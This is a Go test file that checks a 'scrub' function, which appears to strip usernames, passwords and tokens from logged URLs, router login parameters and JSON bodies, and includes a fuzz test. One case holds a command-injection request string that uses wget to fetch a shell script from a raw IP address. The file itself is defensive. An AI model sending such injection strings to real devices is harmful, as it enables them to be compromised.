package session

import (
	"strings"
	"testing"
)

func TestScrub(t *testing.T) {
	cases := []struct{ in, want string }{
		{"http://bob:hunter2@example.com/x", "http://example.com/x"},
		{"HTTP://bob@example.com:8080/", "HTTP://example.com:8080/"},
		{"example.com:443", "example.com:443"},
		{"/cgi-bin/login.cgi?username=admin&password=admin&lang=en", "/cgi-bin/login.cgi?username=&password=&lang=en"},
		{"/login?pwd=1234", "/login?pwd="},
		{"luci_username=root&luci_password=hunter2", "luci_username=&luci_password="},
		{`{"user":"admin","Password": "hunter2","x":1}`, `{"user":"","Password": "","x":1}`},
		{"/shell?cd+/tmp;wget+http://1.2.3.4/x.sh", "/shell?cd+/tmp;wget+http://1.2.3.4/x.sh"},
		{"/index.html", "/index.html"},
		{"", ""},
	}
	for _, c := range cases {
		if got := scrub(c.in); got != c.want {
			t.Errorf("scrub(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// FuzzScrub: scrubbing never panics, never grows the text, and leaves no
// value after a credential-looking field name.
func FuzzScrub(f *testing.F) {
	f.Add("http://a:b@c/?password=x&user=y")
	f.Add(`{"token":"abc"}`)
	f.Fuzz(func(t *testing.T, s string) {
		out := scrub(s)
		if len(out) > len(s) {
			t.Fatalf("scrub grew %q to %q", s, out)
		}
		if strings.Contains(strings.ToLower(out), "password=hunter2") {
			t.Fatalf("left a password in %q", out)
		}
	})
}
